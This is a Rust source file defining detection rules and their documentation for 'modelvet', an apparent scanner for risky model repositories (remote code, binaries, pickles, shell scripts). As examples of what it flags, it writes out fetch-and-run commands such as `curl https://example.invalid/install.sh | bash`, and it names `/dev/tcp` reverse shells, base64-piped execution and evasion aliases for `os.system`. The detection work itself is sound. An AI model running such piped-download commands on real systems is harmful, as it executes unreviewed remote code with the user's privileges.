//! Rules raised by the repository family (configuration, code, scripts, binaries, LFS pointers).

use crate::rule::Rule;
use crate::severity::Severity;

/// Loading needs `trust_remote_code=True`.
pub static CONFIG_REMOTE_CODE: Rule = Rule {
    id: "config-remote-code",
    severity: Severity::Medium,
    summary: "A config maps Auto classes to custom code (`auto_map`): loading needs `trust_remote_code=True`.",
    docs: r#"
## Why it matters
`auto_map` in `config.json` or `tokenizer_config.json` tells `transformers` to import
classes from the repository's own Python files (`"AutoModel": "modeling_x.XModel"`) or
from *another* repository (`"repo--modeling_x.XModel"`). With `trust_remote_code=True`
that code runs on load; a reference to another repository runs code that is not even in
the repository you reviewed, and is reported at high severity.

## What to do
Review the named files (see `python-dangerous-call` findings), pin the revision, or use
a natively supported architecture.
"#,
};

/// JSON that does not parse, or has duplicate keys.
pub static JSON_MALFORMED: Rule = Rule {
    id: "json-malformed",
    severity: Severity::Low,
    summary: "A JSON file does not parse, or repeats a key (readers disagree on which one counts).",
    docs: r#"
## Why it matters
Configuration read by different tools must mean the same to each. Python's `json` keeps
the last of duplicate keys, other readers the first; a broken file may be read by a
lenient parser differently from how it looks.

Python's `json` (which `transformers`, the hub libraries and Jupyter use) reads
documents nested 9,998 levels deep in CPython 3.13; modelvet reads 20,000 levels
without recursion. A document nested deeper may still be read by Python but was not
analysed (its `auto_map` or chat template unseen), and is reported at **high**
severity.

## What to do
Fix or re-download the file.
"#,
};

/// A native binary.
pub static REPO_EXECUTABLE: Rule = Rule {
    id: "repo-executable",
    severity: Severity::High,
    summary: "A native executable or library (ELF, PE, Mach-O) ships with the model.",
    docs: r#"
## Why it matters
A model repository holds weights, configuration and perhaps Python code. A compiled
binary cannot be reviewed like source, can be loaded by custom code (`ctypes.CDLL`) or a
custom op, and is a classic way to smuggle malware into a pipeline. modelvet recognises
binaries by content, so renaming one to `.bin` does not hide it.

## What to do
Find out what loads the binary. Remove it, or rebuild it yourself from reviewed source.
"#,
};

/// A pointer stands where content should be.
pub static LFS_POINTER: Rule = Rule {
    id: "lfs-pointer",
    severity: Severity::Medium,
    summary: "A Git LFS pointer stands where the file's content should be: the real file was not scanned.",
    docs: r#"
## Why it matters
Cloning a model repository without `git lfs` leaves small text pointers
(`version https://git-lfs.github.com/spec/v1`, `oid sha256:…`, `size …`) in place of the
weights. Scanning the pointer says nothing about the weights, whose hash cannot be
checked either.

## What to do
Fetch the content (`git lfs pull`, or download the file from the hub) and scan again;
compare its SHA-256 with the pointer's `oid`.
"#,
};

/// Python code in a model repository.
pub static PYTHON_CUSTOM_CODE: Rule = Rule {
    id: "python-custom-code",
    severity: Severity::Low,
    summary: "The repository ships Python code, which `trust_remote_code=True` runs on load.",
    docs: r#"
## Why it matters
`transformers` loads custom model, configuration and tokenizer classes from a
repository's own `.py` files when the caller passes `trust_remote_code=True`. That code
runs with the caller's privileges during `from_pretrained`, before any weights are used.

## What to do
Read the code, pin the repository revision you reviewed (`revision=<commit>`), and load
with `trust_remote_code=True` only for that revision. Prefer models supported natively.
"#,
};

/// A call that runs commands, evaluates code, unpickles or downloads.
pub static PYTHON_DANGEROUS_CALL: Rule = Rule {
    id: "python-dangerous-call",
    severity: Severity::High,
    summary:
        "Python code calls something that runs commands, evaluates code, unpickles or downloads.",
    docs: r#"
## Why it matters
Custom modelling code has no reason to start processes (`os.system`, `subprocess`),
evaluate strings (`eval`, `exec`, `__import__`), deserialise pickles (`pickle.load`,
`torch.load` without `weights_only=True`) or fetch more code and data from the network.
Each of these runs with the privileges of whoever loads the model.

Names are resolved the way Python binds them before they are judged: `import os as o;
o.system(...)`, `from subprocess import Popen as P`, `x = os; x.system(...)`,
`getattr(os, "system")(...)` and `__import__("os").system(...)` are all `os.system`,
and the evidence shows the chain. Process spawning in every form (`os.exec*`,
`os.spawn*`, `os.posix_spawn`, `pty.spawn`, `asyncio.create_subprocess_*`), nested
unpicklers (`pickle`, `dill`, `cloudpickle`, `marshal`, `joblib.load`,
`numpy.load(allow_pickle=True)`, `torch.load` without `weights_only=True`), `exec`,
`eval`, `compile`, dynamic imports and network clients are flagged, as is anything
else the pickle denylist rates critical (`runpy`, `ctypes`, `_posixsubprocess`). A
dangerous callable passed as a value (`Thread(target=os.system)`) is flagged too.

## Example
`os.system("curl https://example.invalid/x.sh | sh")` in `modeling_custom.py`.

## What to do
Read the flagged line. Do not load the repository with `trust_remote_code=True` until
you understand why the call is there.
"#,
};

/// The parser could not read the file, or it nests too deep to analyse.
pub static PYTHON_UNPARSED: Rule = Rule {
    id: "python-unparsed",
    severity: Severity::Medium,
    summary: "A Python file could not be parsed, so its calls were only found by a token scan.",
    docs: r#"
## Why it matters
Calls are judged after resolving names through imports and assignments, which needs
the file's syntax tree. A file that does not parse was scanned by a light tokenizer
instead, which misses aliases (`x = os; x.system(...)`) and `getattr` tricks.

The parser (Ruff's) reads the syntax of every Python from 3.9 to 3.15: `type`
statements and generic functions and classes, f-strings that nest quotes,
t-strings, `except A, B:` and lazy imports parse. A syntax error is reported at
**medium** severity: no Python from 3.9 on can import the file either
(`trust_remote_code` fails). What still does not parse is Python 2 code
(`print "x"`), syntax removed before 3.9 (`f((a)=1)`) and syntax newer than
Python 3.15. A file whose expressions or blocks nest deeper than modelvet
analyses (300 levels) is **high**: Python may still import it, and nothing
vouches for what it does.

## What to do
Read the file. A model repository has no reason to ship code that is
machine-generated to this depth or that does not parse. If you believe the file
is valid for the Python you load it with, check with that Python's
`python -c 'import ast, sys; ast.parse(open(sys.argv[1]).read())' FILE` and
review the whole file by hand: the token scan misses aliased calls.
"#,
};

/// Remote code execution from a script.
pub static SHELL_REMOTE_EXEC: Rule = Rule {
    id: "shell-remote-exec",
    severity: Severity::High,
    summary: "A shell command runs downloaded or encoded code, or opens a reverse shell.",
    docs: r#"
## Why it matters
`curl … | sh`, `bash <(wget …)`, `base64 -d | sh` and `/dev/tcp` redirections run code
that is not in the repository, or hide what they run. A model repository's setup script
has no reason to do this.

## Example
`curl -fsSL https://example.invalid/install.sh | bash`

## What to do
Do not run the script. Download what it fetches, read it, and pin it by hash.
"#,
};

/// A download in a script.
pub static SHELL_DOWNLOAD: Rule = Rule {
    id: "shell-download",
    severity: Severity::Low,
    summary: "A shell command downloads files (`curl`, `wget`).",
    docs: r#"
## Why it matters
Downloads fetch content that is not part of the reviewed repository and may change at
any time.

## What to do
Check what is fetched and pin it by hash.
"#,
};
